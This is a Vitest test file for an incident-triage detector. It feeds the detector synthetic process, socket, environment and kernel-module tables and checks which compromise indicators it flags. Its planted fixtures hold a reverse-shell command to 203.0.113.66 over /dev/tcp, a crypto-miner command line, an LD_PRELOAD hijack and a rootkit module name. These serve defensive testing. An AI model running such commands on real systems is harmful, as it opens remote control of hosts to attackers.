import { describe, expect, it } from 'vitest';
import { resultsOf, told } from './run.js';

const PROCESS_HEAD = 'pid\tppid\tuid\tstart_ticks\tstate\tcomm\texe\texe_deleted\texe_sha256\tcwd\tcmdline';
const SOCKET_HEAD = 'proto\tlocal_addr\tlocal_port\tremote_addr\tremote_port\tstate\tuid\tinode\tpid';
const ENVIRON_HEAD = 'pid\tname\tvalue';

const BENIGN_PROCESSES = [
  '1\t0\t0\t1\tS\tsystemd\t/usr/lib/systemd/systemd\t0\t\t/\t/sbin/init',
  '2\t0\t0\t1\tS\tkthreadd\t\t0\t\t/\t',
  '9\t2\t0\t1\tI\tkworker/0:1\t\t0\t\t/\t',
  '620\t1\t0\t500\tS\tcron\t/usr/sbin/cron\t0\t\t/var/spool/cron\t/usr/sbin/cron -f',
  '690\t1\t0\t500\tS\tsshd\t/usr/sbin/sshd\t0\t\t/\tsshd: /usr/sbin/sshd -D',
  '730\t1\t0\t500\tS\tapache2\t/usr/sbin/apache2\t0\t\t/\t/usr/sbin/apache2 -k start',
  '800\t1\t0\t500\tS\tpython3\t/usr/bin/python3.11\t1\t\t/\t/usr/bin/python3 /usr/share/unattended-upgrades/x',
  '901\t690\t1000\t900\tS\tbash\t/usr/bin/bash\t0\t\t/home/admin\t-bash',
  '950\t901\t1000\t950\tS\tnode\t/home/admin/.nvm/versions/node/v22/bin/node\t0\t\t/home/admin\tnode server.js',
  '970\t730\t33\t990\tS\tsh\t/usr/bin/dash\t0\t\t/\tsh -c /usr/bin/convert a.jpg b.png',
];
const BENIGN_SOCKETS = [
  'tcp\t0.0.0.0\t22\t0.0.0.0\t0\tLISTEN\t0\t14690\t690',
  'tcp6\t::\t80\t::\t0\tLISTEN\t0\t14730\t730',
  'tcp\t0.0.0.0\t2049\t0.0.0.0\t0\tLISTEN\t0\t15000\t',
  'tcp\t10.20.3.44\t38412\t52.95.1.9\t443\tESTABLISHED\t0\t15671\t690',
  'tcp\t10.20.3.44\t5555\t198.51.100.200\t44444\tESTABLISHED\t0\t15672\t730',
];
const PLANTED_PROCESSES = [
  '4242\t1\t0\t6700000\tR\tkworkerd\t/var/tmp/.x/kworkerd (deleted)\t1\tabc\t/var/tmp/.x\t./kworkerd --pool stratum+tcp://203.0.113.66:3333 --donate-level 0',
  '4377\t1\t0\t6700100\tS\tkworker/u4:3\t/var/tmp/.x/.lsn\t0\t\t/var/tmp/.x\t[kworker/u4:3]',
  '4705\t620\t0\t6700200\tS\tcron\t/usr/sbin/cron\t0\t\t/\t/usr/sbin/CRON -f',
  "4706\t4705\t0\t6700200\tS\tsh\t/usr/bin/bash\t0\t\t/root\t/bin/sh -c /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'",
  '4707\t4706\t0\t6700200\tS\tbash\t/usr/bin/bash\t0\t\t/root\t/bin/bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1',
  '4708\t4707\t0\t6700200\tS\tbash\t/usr/bin/bash\t0\t\t/root\tbash -i',
];
const PLANTED_SOCKETS = [
  'tcp\t10.20.3.44\t49812\t203.0.113.66\t4444\tESTABLISHED\t0\t41707\t4707',
  'tcp6\t::ffff:10.20.3.44\t42118\t::ffff:203.0.113.66\t3333\tESTABLISHED\t0\t41242\t4242',
  'tcp\t0.0.0.0\t31337\t0.0.0.0\t0\tLISTEN\t0\t41377\t4377',
  'tcp\t0.0.0.0\t4445\t0.0.0.0\t0\tLISTEN\t0\t41999\t',
];

function triage(planted: 'planted' | 'clean'): { readonly [path: string]: string } {
  const bad = planted === 'planted';
  const table = (...lines: readonly string[]) => `${lines.join('\n')}\n`;
  return {
    'live/clock.txt': 'utc 2026-11-20T04:00:00Z\nuptime_s 6700.5\nbtime 1763600000\n',
    'live/processes.tsv': table(PROCESS_HEAD, ...BENIGN_PROCESSES, ...(bad ? PLANTED_PROCESSES : [])),
    'live/sockets.tsv': table(SOCKET_HEAD, ...BENIGN_SOCKETS, ...(bad ? PLANTED_SOCKETS : [])),
    'live/environ.tsv': table(
      ENVIRON_HEAD,
      '901\tHISTFILE\t/home/admin/.bash_history',
      ...(bad ? ['4242\tHISTFILE\t/dev/null', '4377\tLD_PRELOAD\t/dev/shm/x.so'] : []),
    ),
  };
}

describe('a live triage', () => {
  it('says nothing of an ordinary host', async () => {
    const { bad, notices } = await resultsOf(triage('clean'));
    expect(told(bad)).toEqual([]);
    expect(notices).toEqual([]);
  });

  it('finds every planted process and socket, with its row', async () => {
    const { bad } = await resultsOf(triage('planted'));
    expect(told(bad)).toEqual(
      expect.arrayContaining([
        'process.command.miner process:4242 live/processes.tsv:12',
        'process.deleted-executable process:4242 live/processes.tsv:12',
        'process.kernel-thread-name process:4242 live/processes.tsv:12',
        'process.runs-from-temp process:4242 live/processes.tsv:12',
        'process.history-off process:4242 live/processes.tsv:12',
        'process.kernel-thread-name process:4377 live/processes.tsv:13',
        'process.preload process:4377 live/processes.tsv:13',
        'process.reverse-shell process:4707 live/processes.tsv:16',
        'process.interactive-shell-of-service process:4708 live/processes.tsv:17',
        'network.finding-remote process:4707 live/sockets.tsv:7',
        'network.finding-remote process:4242 live/sockets.tsv:8',
        'network.mining-port process:4242 live/sockets.tsv:8',
        'network.odd-listener process:4377 live/sockets.tsv:9',
        'network.listener-without-process socket:0.0.0.0:4445 live/sockets.tsv:10',
      ]),
    );
  });

  it('says when a process started', async () => {
    const { bad, events } = await resultsOf(triage('planted'));
    const miner = bad.find(({ rule }) => rule === 'process.command.miner');
    expect(miner?.at).toBe(new Date(1763600000_000 + 67_000_000).toISOString());
    expect(events.some(({ kind, entity }) => kind === 'process.started' && entity === 'process:4242')).toBe(
      true,
    );
  });

  it('joins tables in whatever order the archive has them', async () => {
    const files = triage('planted');
    const turned = Object.fromEntries(Object.entries(files).reverse());
    expect([...told((await resultsOf(turned)).bad)].sort()).toEqual(
      [...told((await resultsOf(files)).bad)].sort(),
    );
  });

  it('tells kernel modules of rootkits, and lists foreign ones', async () => {
    const modules =
      'ext4 921600 1 - Live 0x0\nlime 16384 0 - Live 0x0 (OE)\nnvidia 99 0 - Live 0x0 (POE)\nDiamorphine 16384 0 - Live 0x0 (OE)\n';
    const { bad, info } = await resultsOf({ 'live/modules.txt': modules });
    expect(told(bad)).toEqual(['kernel.rootkit-module module:Diamorphine live/modules.txt:4']);
    expect(told(info)).toEqual(['kernel.foreign-module module:nvidia live/modules.txt:3']);
  });

  it('survives processes that are their own ancestors, and rows of nonsense', async () => {
    const rows = [
      '5\t6\t0\t1\tS\tbash\t/bin/bash\t0\t\t/\tbash -i',
      '6\t5\t0\t1\tS\tcron\t/usr/sbin/cron\t0\t\t/\tcron',
      '7\t7\t0\t1\tS\tsh\t/bin/sh\t0\t\t/\tsh -i',
      'x\ty',
      '',
    ];
    const { notices } = await resultsOf({ 'live/processes.tsv': [PROCESS_HEAD, ...rows].join('\n') });
    expect(notices).toEqual([]);
  });
});
